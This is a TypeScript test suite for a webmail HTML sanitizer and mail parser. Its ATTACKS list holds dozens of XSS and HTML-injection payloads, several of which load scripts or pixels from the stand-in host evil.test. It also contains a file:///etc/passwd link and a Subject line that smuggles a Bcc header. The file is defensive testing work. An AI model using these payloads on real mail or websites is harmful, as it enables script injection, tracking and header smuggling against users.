// Hostile mails in the inbox: what their HTML becomes, known attacks and random mixtures of them; and that none takes long.
import fc from '#test/fast-check.ts';
import { Parser } from 'htmlparser2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { composeLink, parseMailto, renderMailPage } from '#trial/inbox/mail-page.ts';
import { inboxLimits } from '#trial/inbox/limits.ts';
import { replyTo } from '#browser/inbox/page-address.ts';
import { type InboxSite, inboxSite } from './inbox-site.ts';

const PIXEL = 'data:image/png;base64,iVBORw0KGgo=';
const pictures = new Map([['board', PIXEL]]);
const page = (html: string): string => renderMailPage({ html, pictures }, 'alice');

const ATTACKS = [
  '<script>alert(1)</script>',
  '<script src=//evil.test/x.js></script>',
  '<SCRIPT/x>alert(1)</SCRIPT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="https://evil.test/pixel.gif"/onload=alert(1)>',
  '<img src="https://evil.test/pixel.gif" srcset="https://evil.test/2x.gif 2x">',
  '<picture><source srcset="https://evil.test/a.png"><img src="cid:board"></picture>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)">',
  '<img src="cid:nobody">',
  '<body onload=alert(1) background="https://evil.test/bg.png">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>body{background:url(https://evil.test/css)}</style>',
  '<style></style ><img src=x onerror=alert(1)></style>',
  '<style><!--</style><img src=x onerror=alert(1)>--></style>',
  '<p style="background:url(https://evil.test/css)">x</p>',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta name="color-scheme" content="light dark"><meta name=referrer content=unsafe-url>',
  '<base href="https://evil.test/" target="_parent">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a><a href="file:///etc/passwd">x</a><a href="//evil.test">x</a><a href="/inbox/alice/send">x</a>',
  '<a href="https://evil.test/" target="_top" ping="https://evil.test/ping" onclick=alert(1)>x</a>',
  '<a href="mailto:a@b.test?body=&quot;><script>alert(1)</script>">x</a>',
  '<form action="/inbox/alice/send" method=post><input name=to><button formaction="https://evil.test">x</button></form>',
  '<iframe src="https://evil.test"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">',
  '<audio src="https://evil.test/x.ogg" autoplay></audio><video poster="https://evil.test/x.png"></video>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><xml><x:script>alert(1)</x:script></xml>',
  '<div id=inbox class=x contenteditable tabindex=1 accesskey=s autofocus>x</div>',
  '<dialog open popover>x</dialog><marquee onstart=alert(1)>x</marquee><isindex><keygen>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<a href="https://a.test">ok</a><img src="cid:board">',
];

/** What is wrong with a page; ''. nothing. */
function faultsOf(written: string): string {
  const faults: string[] = [];
  const isGood: Readonly<Record<string, (value: string, tag: string) => boolean>> = {
    href: value => /^(https?:\/\/|\/inbox#write=alice&)/.test(value),
    target: value => value === '_top' || value === '_blank',
    rel: value => value === 'noopener noreferrer',
    src: (value, tag) => tag === 'img' && /^data:image\/(png|jpeg|gif|webp);base64,[\w+/=]*$/.test(value),
    srcset: (value, tag) => tag === 'source' && /^data:image\/(png|jpeg|gif|webp);base64,[\w+/=]*$/.test(value),
    charset: value => value === 'utf-8',
    name: (value, tag) => tag === 'meta' && value === 'color-scheme',
    content: (value, tag) => tag === 'meta' && value === 'light dark',
  };
  const PLAIN =
    /^(align|alt|aria-hidden|aria-label|bgcolor|border|cellpadding|cellspacing|class|color|colspan|dir|face|height|lang|media|open|role|rowspan|size|start|style|title|valign|width)$/;
  const BANNED =
    /^(script|noscript|template|title|iframe|frame|frameset|object|embed|applet|svg|math|form|input|button|select|textarea|audio|video|canvas|base|link|plaintext|dialog|marquee)$/;
  const parser = new Parser({
    onopentag: (tag, attributes) => {
      if (BANNED.test(tag) || tag.includes(':')) faults.push(tag);
      for (const [name, value] of Object.entries(attributes))
        if (!PLAIN.test(name) && isGood[name]?.(value, tag) !== true) faults.push(`${tag} ${name}=${value}`);
      if (attributes['target'] === '_top' && !attributes['href']!.startsWith('/inbox#')) faults.push('_top');
    },
    oncomment: () => void faults.push('a comment'),
    onprocessinginstruction: name => {
      if (name !== '!doctype') faults.push(name);
    },
  });
  parser.end(written);
  return faults.join('; ');
}

describe('an HTML mail', () => {
  it.each(ATTACKS)('is shown without %s', html => {
    expect(faultsOf(page(html))).toBe('');
  });

  it('keeps what is harmless: text, tables, pictures of its own, links', () => {
    const html =
      '<table border="1"><tr><td style="color:red" colspan="2">a &lt; b</td></tr></table><picture><source media="(prefers-color-scheme: dark)" srcset="data:image/png;base64,AAAA"><img src="cid:board" alt="board"></picture><a href="https://a.test/?a=1&amp;b=2">page</a>';
    expect(page(`<html><head><title>no</title></head><body style="margin:0">${html}</body></html>`)).toBe(
      `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0">${html
        .replace('src="cid:board" alt="board"', `alt="board" src="${PIXEL}"`)
        .replace('b=2"', 'b=2" target="_blank" rel="noopener noreferrer"')}</html>\n`,
    );
  });

  it('is harmless in every mixture of attacks, cut anywhere', () => {
    const piece = fc.tuple(fc.constantFrom(...ATTACKS), fc.nat(200), fc.nat(200));
    const mixture = fc
      .array(piece, { maxLength: 6 })
      .map(pieces =>
        pieces.map(([attack, from, length]) => attack.slice(from % attack.length).slice(0, length)).join(''),
      );
    fc.assert(
      fc.property(mixture, html => faultsOf(page(html)) === ''),
      { numRuns: 2_000 },
    );
  });

  it('shows no more than there may be of it', () => {
    const big = new Map([['board', `data:image/png;base64,${'A'.repeat(1_000_000)}`]]);
    const written = renderMailPage({ html: '<img src="cid:board">'.repeat(5_000), pictures: big }, 'alice');
    expect(written.length).toBeLessThan(inboxLimits.pictureLength + inboxLimits.htmlLength);
    expect(page('x'.repeat(2_000_000)).length).toBeLessThan(inboxLimits.htmlLength + 1_000);
  });
});

describe('a link that begins a mail', () => {
  it.each<readonly [string, ReturnType<typeof parseMailto>]>([
    ['mailto:a@b.test', { to: 'a@b.test', subject: '', text: '' }],
    ['MAILTO:a%2Bb@c.test?SUBJECT=x%20y+z&Body=1%0D%0A2', { to: 'a+b@c.test', subject: 'x y+z', text: '1\n2' }],
    ['mailto:?subject=%zz', { to: '', subject: '%zz', text: '' }],
    ['mailto:a@b.test?cc=c@d.test&bcc=e@f.test&attach=/etc/passwd', { to: 'a@b.test', subject: '', text: '' }],
    ['mailto:', null],
    ['https://a.test/mailto:x', null],
  ])('%s', (href, begun) => {
    expect(parseMailto(href)).toEqual(begun);
  });

  it('says in the page’s own address what it said, whatever that was', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), fc.string(), (to, subject, text) => {
        const fields = new URLSearchParams(composeLink('alice', { to, subject, text }).replace(/^\/inbox#/, ''));
        expect([...fields]).toEqual(Object.entries({ write: 'alice', to, subject, text }));
      }),
    );
  });
});

describe('a hostile mail', () => {
  let site: InboxSite;
  beforeAll(async () => {
    site = await inboxSite();
  });
  afterAll(() => site.close());

  const header = 'From: x@example.test\r\nTo: alice@example.test\r\nSubject: hostile\r\nMIME-Version: 1.0\r\n';
  const html = (body: string): string => `${header}Content-Type: text/html\r\n\r\n${body}\r\n`;
  const nested = (depth: number): string => {
    let body = 'Content-Type: text/plain\r\n\r\nx\r\n';
    for (let i = 0; i < depth; i++)
      body = `Content-Type: multipart/mixed; boundary=b${i}\r\n\r\n--b${i}\r\n${body}\r\n--b${i}--\r\n`;
    return `${header}${body}`;
  };

  const files = (count: number): string =>
    `${header}Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\nContent-Disposition: attachment\r\n\r\ny\r\n'.repeat(count)}--b--\r\n`;

  it('with other lines in its Subject is answered on one', async () => {
    const subject = '=?utf-8?Q?a=0D=0ABcc:_b=09c=00?=';
    await site.deliver('x@example.test', 'jack@example.test', {
      raw: header.replace('hostile', subject) + '\r\nx\r\n',
    });
    const mail = await site.newest('jack');
    expect(mail.subject).toBe('a Bcc: b c ');
    const answer = { ...replyTo(mail, ''), to: 'hugo@example.test' };
    expect((await site.post('/inbox/jack/send', answer)).status).toBe(204);
    expect((await site.newest('hugo')).subject).toBe('Re: a Bcc: b c');
  });

  it('of parts beyond number is not shown, and its source is', async () => {
    await site.deliver('x@example.test', 'alice@example.test', { raw: files(5_000) });
    const { uid } = (await site.mails('alice'))[0]!;
    const { status, text } = await site.ask(`/inbox/alice/${uid}`);
    expect([status, text]).toEqual([422, `{"why":"This mail is damaged and can't be shown."}`]);
    expect((await site.ask(`/inbox/alice/${uid}/source`)).text).toContain('boundary=b');
  });

  it.each<readonly [string, string]>([
    ['with two hundred files', files(200)],
    ['with every attack', html(ATTACKS.join('\n'))],
    ['of a hundred thousand tags', html(`${'<b>'.repeat(50_000)}${'</i>'.repeat(50_000)}`)],
    ['of open tags', html('<div '.repeat(60_000))],
    ['of entities', html('&amp;&#x3c;'.repeat(30_000))],
    ['nested without end', nested(300)],
    ['without a word', 'From: x@example.test\r\n\r\n'],
    ['with a date of nonsense', `${header}Date: the day after tomorrow\r\n\r\nx\r\n`],
    ['with bytes of no charset', `${header}Content-Type: text/plain; charset=nonsense\r\n\r\n\xff\xfe\xc3\x28\r\n`],
  ])('%s is shown, and the inbox goes on', async (_, raw) => {
    await site.deliver('x@example.test', 'alice@example.test', { raw: Buffer.from(raw, 'latin1') });
    const mail = await site.newest('alice');
    expect(mail.files.length).toBeLessThanOrEqual(inboxLimits.files);
    const { status, text, headers } = await site.ask(`/inbox/alice/${mail.uid}/html`);
    expect(status).toBe(mail.hasHtml ? 200 : 404);
    if (mail.hasHtml) {
      expect(faultsOf(text)).toBe('');
      const policy = headers['content-security-policy'];
      expect(policy).toMatch(
        /^default-src 'none'; img-src data:; style-src 'unsafe-inline'; .*; sandbox allow-popups /,
      );
      expect(policy).not.toMatch(
        /allow-(scripts|same-origin|forms|modals)|allow-top-navigation(?!-by-user-activation)/,
      );
    }
    expect((await site.ask(`/inbox/alice/${mail.uid}/source`)).headers['content-security-policy']).toMatch(/sandbox$/);
    expect((await site.ask('/inbox')).status).toBe(200);
  });
});
